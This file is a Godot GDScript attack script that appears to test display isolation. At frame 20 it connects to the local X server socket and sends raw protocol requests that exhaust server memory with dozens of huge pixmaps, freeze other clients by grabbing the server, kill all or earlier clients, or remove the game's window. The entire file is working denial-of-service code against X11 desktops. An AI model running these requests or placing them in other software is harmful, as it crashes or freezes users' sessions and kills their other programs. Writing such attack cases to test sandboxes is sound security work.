# Attacks: the display. Speaks to the X server on a line of its own, from frame 20 on, in the way that this demo's
# `scenario` names: has it keep pictures, keeps everybody else waiting, ends the connections of all or of those that came
# before this game, or takes the game's window away.
extends Node2D

const PICTURES := 64
const SIDE := 8000  # 244 MiB each

var _frame := -1
var _line := StreamPeerUDS.new()


func _process(_delta: float) -> void:
	_frame += 1
	if _frame == 20:
		var words := OS.get_cmdline_user_args()
		_attack(words[1] if words.size() == 2 else "keep pictures")


func _attack(way: String) -> void:
	_line.connect_to_host("/tmp/.X11-unix/X" + OS.get_environment("DISPLAY").trim_prefix(":").get_slice(".", 0))
	_line.poll()
	_line.put_data(PackedByteArray([0x6c, 0, 11, 0, 0, 0, 0, 0, 0, 0, 0, 0]))
	var head: PackedByteArray = _line.get_data(8)[1]
	var about: PackedByteArray = _line.get_data(head.decode_u16(6) * 4)[1]
	var base := about.decode_u32(4)
	var screen := 32 + ((about.decode_u16(16) + 3) & ~3) + about[21] * 8
	var root := about.decode_u32(screen)
	var window := DisplayServer.window_get_native_handle(DisplayServer.WINDOW_HANDLE)
	match way:
		"keep pictures":
			_keep_pictures(base, root)
		"keep others waiting":
			_request(36, 0, [])
		"end all":
			for client in 64:
				_request(113, 0, [client << 21])
		"end those before":
			for client in range(1, window >> 21):
				_request(113, 0, [client << 21])
		"take the window":
			_request(10, 0, [window])
	print("ATTACK display: ", way)


func _keep_pictures(base: int, root: int) -> void:
	_request(55, 0, [base + 1, root, 0])
	for number in PICTURES:
		_request(53, 24, [base + 2 + number, root, SIDE | SIDE << 16])
		_request(70, 0, [base + 2 + number, base + 1, 0, SIDE | SIDE << 16])
	_request(43, 0, [])
	var refused := 0
	while true:
		var answer: PackedByteArray = _line.get_data(32)[1]
		if answer.size() < 32 or answer[0] == 1:
			break
		refused += int(answer[0] == 0 and answer[10] == 53)
	print("ATTACK display kept %d of %d" % [PICTURES - refused, PICTURES])


func _request(code: int, data: int, words: Array) -> void:
	var message := PackedByteArray([code, data, 0, 0])
	message.encode_u16(2, 1 + words.size())
	message.append_array(PackedInt32Array(words).to_byte_array())
	_line.put_data(message)
